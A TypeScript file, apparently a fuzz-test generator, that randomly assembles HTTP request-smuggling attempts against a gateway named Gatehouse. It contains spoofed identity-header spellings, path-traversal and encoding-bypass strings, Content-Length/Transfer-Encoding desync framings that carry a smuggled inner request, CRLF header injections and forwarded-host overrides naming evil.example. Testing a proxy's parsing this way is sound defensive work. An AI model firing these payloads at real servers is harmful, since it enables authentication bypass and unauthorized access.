/** Returns numbers from 0 to below `limit` (mulberry32). */
export function numbersFrom(seed: number): (limit: number) => number {
  let state = seed;
  return (limit) => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return Math.floor((((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296) * limit);
  };
}

const identityNames = [
  'Gatehouse-Agent',
  'Gatehouse-Client',
  'Gatehouse-Scopes',
  'Gatehouse-Issuer',
  'Gatehouse-Subject',
  'Gatehouse-Request',
  'Signature',
  'Signature-Input',
];

/** Spellings that some server treats as the same name. */
const spellings: ((name: string) => string)[] = [
  (name) => name,
  (name) => name.toLowerCase(),
  (name) => name.toUpperCase(),
  (name) => name.replaceAll('-', '_'),
  (name) => name.replace('-', '_').toLowerCase(),
  (name) => name.replaceAll('-', '.'),
  (name) => `${name} `,
  (name) => ` ${name}`,
  (name) => `${name}\t`,
  (name) => `\t${name}`,
  (name) => `X-${name}`,
  (name) => `HTTP_${name}`,
  (name) => `${name}\x00`,
  (name) => `${name}\x0b`,
  (name) => name.replace('-', '--'),
  (name) => name.replace('G', '\u0147'),
  (name) => `${name}:`,
];

/** A request as sent: its request line, header lines, and body. */
export interface SmugglingRequest {
  line: string;
  fields: string[];
  body: string;
}

const paths = [
  '/api/v1/orders/../../admin',
  '/api/v1/orders/..',
  '/api/v1/orders/./7',
  '/api/v1/orders/%2e%2e/admin',
  '/api/v1/orders/%2E%2e%2fadmin',
  '/api/v1/orders/.%2e/admin',
  '/api/v1/orders/%252e%252e/admin',
  '/api/v1/orders/%252fadmin',
  '/api/v1/orders/..%5cadmin',
  '/api/v1/orders/..\\admin',
  '/api/v1/orders\\..\\admin',
  '/api/v1/orders//admin',
  '/api/v1/orders/7//',
  '//api/v1/orders',
  '/api/v1//orders',
  '/api/v1/orders/..;/admin',
  '/api/v1/orders/;/admin',
  '/api/v1/orders/7;v=1/..;x/admin',
  '/api/v1/orders/%00',
  '/api/v1/orders/7%0d%0aGatehouse-Agent:%20evil',
  '/api/v1/orders/7%0aX',
  '/api/v1/orders/%c0%ae%c0%ae/admin',
  '/api/v1/orders/%e0%80%ae%e0%80%ae/admin',
  '/api/v1/orders/%uff0e%uff0e/admin',
  '/api/v1/orders/%',
  '/api/v1/orders/%7',
  '/api/v1/orders/#/../admin',
  '/api/v1/orders?x=#fragment',
  '/api/v1/orders?x=1 HTTP/1.1',
  '/api/v1/orders?<script>',
  '/api/v1/orders?%zz',
  'http://evil.example/api/v1/orders/7',
  'http://127.0.0.1:1/api/v1/orders/7',
  'https://user:pw@evil.example/api/v1/orders',
  'http://evil.example',
  'evil.example:443',
  '*',
  '/api/v1/orders/\u00e4',
  '/api/v1/orders/%ef%bc%8e%ef%bc%8e/7',
  '/api/v1/orders/7%2e',
  '/api/v1/orders/%41',
  '/API/v1/orders',
  '/api/v1/Orders',
  '/api/v1/orders%2f..%2fadmin',
  '/api/v1/orders/?a=../..',
];

const smuggled = 'GET /v2/orders/smuggled HTTP/1.1\r\nHost: inside\r\nGatehouse-Agent: evil\r\n\r\n';
const asChunk = (text: string) => `${text.length.toString(16)}\r\n${text}\r\n`;
const chunks = `${asChunk('hello')}0\r\n\r\n`;

/** Framings that two servers may parse differently around the given body. */
const framings: { fields: string[]; body: string }[] = [
  { fields: ['Content-Length: 5', 'Transfer-Encoding: chunked'], body: `0\r\n\r\n${smuggled}` },
  { fields: ['Transfer-Encoding: chunked', 'Content-Length: 5'], body: `${chunks}${smuggled}` },
  { fields: ['Content-Length: 5', 'Content-Length: 0'], body: `hello${smuggled}` },
  { fields: ['Content-Length: 5, 5'], body: `hello${smuggled}` },
  { fields: ['Content-Length: +5'], body: `hello${smuggled}` },
  { fields: ['Content-Length: 0x5'], body: `hello${smuggled}` },
  { fields: ['Content-Length: -1'], body: smuggled },
  { fields: ['Content-Length : 5'], body: `hello${smuggled}` },
  { fields: ['Content-Length: 5 5'], body: `hello${smuggled}` },
  { fields: [`Content-Length: ${smuggled.length}`], body: smuggled },
  { fields: ['Transfer-Encoding: chunked, identity'], body: `${chunks}${smuggled}` },
  { fields: ['Transfer-Encoding: identity, chunked'], body: `${chunks}${smuggled}` },
  { fields: ['Transfer-Encoding: gzip, chunked'], body: `${chunks}${smuggled}` },
  { fields: ['Transfer-Encoding: xchunked'], body: `${chunks}${smuggled}` },
  { fields: ['Transfer-Encoding:\x0bchunked'], body: `${chunks}${smuggled}` },
  { fields: ['Transfer-Encoding: chunked', 'Transfer-Encoding: identity'], body: `${chunks}${smuggled}` },
  { fields: ['Transfer_Encoding: chunked', 'Content-Length: 5'], body: `hello${smuggled}` },
  { fields: ['Transfer-Encoding : chunked', 'Content-Length: 5'], body: `hello${smuggled}` },
  { fields: [' Transfer-Encoding: chunked', 'Content-Length: 5'], body: `hello${smuggled}` },
  { fields: ['X: y', '\tTransfer-Encoding: chunked', 'Content-Length: 5'], body: `hello${smuggled}` },
  { fields: ['Transfer-Encoding: chunked'], body: `5;x=\r\n${smuggled}\r\nhello\r\n0\r\n\r\n` },
  { fields: ['Transfer-Encoding: chunked'], body: `5\nhello\n0\n\n${smuggled}` },
  { fields: ['Transfer-Encoding: chunked'], body: `05\r\nhello\r\n0\r\nGatehouse-Agent: evil\r\n\r\n${smuggled}` },
  { fields: ['Transfer-Encoding: chunked'], body: `fffffffffffffffff\r\nhello` },
  { fields: ['Transfer-Encoding: chunked'], body: `-5\r\nhello\r\n0\r\n\r\n${smuggled}` },
  { fields: ['Transfer-Encoding: chunked', 'Trailer: Gatehouse-Agent'], body: `0\r\nGatehouse-Agent: evil\r\n\r\n` },
  { fields: ['Content-Length: 0'], body: smuggled },
  { fields: [], body: smuggled },
  { fields: ['Expect: 100-continue', 'Content-Length: 5'], body: `hello${smuggled}` },
];

/** Hop-by-hop headers, and ways to make a server remove other headers. */
const ofConnection = [
  'Connection: Gatehouse-Agent',
  'Connection: close, gatehouse-agent, Gatehouse-Scopes, signature',
  'Connection: Authorization',
  'Connection: host, content-length',
  'Connection: keep-alive, X-Api-Version',
  'Keep-Alive: timeout=1',
  'Proxy-Connection: keep-alive',
  'Proxy-Authorization: Basic eDp5',
  'TE: trailers, chunked',
  'Trailer: Gatehouse-Agent',
  'Upgrade: websocket',
  'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13',
  'Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA',
  'Upgrade: TLS/1.2',
  'X-Forwarded-Host: evil.example',
  'X-Forwarded-For: 127.0.0.1',
  'Forwarded: for=127.0.0.1;host=evil',
  'X-Original-URL: /admin',
  'X-Rewrite-URL: /admin',
  'X-HTTP-Method-Override: DELETE',
  'X-Method-Override: DELETE',
  'Via: 1.1 evil',
  'Cookie: session=1',
  'Host: evil.example',
  'Accept: a\r\n Gatehouse-Agent: evil',
  'Accept: a\rGatehouse-Agent: evil',
  'Accept: a\nGatehouse-Agent: evil',
  'X-Api-Version: 1\r\nX-Api-Version: 2',
  'User-Agent: \u0000',
  'Range: bytes=0-1',
];

const methods = [
  'GET',
  'POST',
  'PUT',
  'DELETE',
  'PATCH',
  'HEAD',
  'OPTIONS',
  'TRACE',
  'CONNECT',
  'get',
  'GET\t',
  'PURGE',
];

/** A request with one or more smuggling attempts. */
export function smugglingAttempt(pick: (limit: number) => number, token: string): SmugglingRequest {
  const one = <Thing>(attemptParts: readonly Thing[]) => attemptParts[pick(attemptParts.length)] as Thing;
  const sent: SmugglingRequest = {
    line: 'GET /api/v1/orders/7 HTTP/1.1',
    fields: ['Host: gatehouse.example', `Authorization: Bearer ${token}`, 'Connection: close'],
    body: '',
  };
  const identity = () => {
    for (let times = 1 + pick(3); times > 0; times--)
      sent.fields.splice(pick(sent.fields.length + 1), 0, `${one(spellings)(one(identityNames))}: evil`);
  };
  const path = () => {
    sent.line = `${one(['GET', 'GET', 'POST', 'DELETE'])} ${one(paths)} HTTP/1.1`;
  };
  const framing = () => {
    const { fields, body } = one(framings);
    sent.line = `${one(['POST', 'POST', 'PUT', 'GET', 'DELETE'])} /api/v1/orders HTTP/1.1`;
    sent.fields.push(...fields);
    sent.body = body;
  };
  const connection = () => void sent.fields.splice(1 + pick(sent.fields.length), 0, one(ofConnection));
  const method = () => {
    sent.line = sent.line.replace(/^\S+/, one(methods));
  };
  const version = () => {
    sent.line = sent.line.replace('HTTP/1.1', one(['HTTP/1.0', 'HTTP/0.9', 'HTTP/2.0', 'http/1.1', 'HTTP/1.1 ']));
  };
  one([identity, identity, path, path, framing, framing, connection, connection, method, version])();
  for (let more = pick(3); more > 0; more--) one([identity, connection, identity, framing])();
  return sent;
}
